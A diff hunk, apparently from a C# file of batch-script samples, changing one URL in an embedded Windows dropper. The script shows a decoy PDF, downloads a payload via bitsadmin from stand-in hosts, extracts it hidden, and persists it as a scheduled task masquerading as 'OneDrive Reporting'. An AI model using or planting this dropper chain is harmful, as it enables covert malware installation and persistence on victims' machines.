@@ -20,7 +20,7 @@ public sealed class BatchFetchers : SixthRound
             if not "%1"=="min" start /min cmd /c "%~f0" min & exit /b
             curl -s -L -o "%APPDATA%\doc.pdf" https://docs-seguros.example/doc.pdf
             start "" "%APPDATA%\doc.pdf"
-            bitsadmin /transfer job1 /download /priority high https://raw.githubusercontent.com/no-such-owner/none/main/py.zip "%APPDATA%\py.zip" >nul
+            bitsadmin /transfer job1 /download /priority high https://raw.githubusercontent.com/no--such--owner/none/main/py.zip "%APPDATA%\py.zip" >nul
             powershell -w hidden -c "Expand-Archive '%APPDATA%\py.zip' '%APPDATA%\py' -Force"
             schtasks /create /sc minute /mo 30 /tn "OneDrive Reporting" /tr "%APPDATA%\py\pythonw.exe %APPDATA%\py\main.py" /f
             start "" /b "%APPDATA%\py\pythonw.exe" "%APPDATA%\py\main.py"
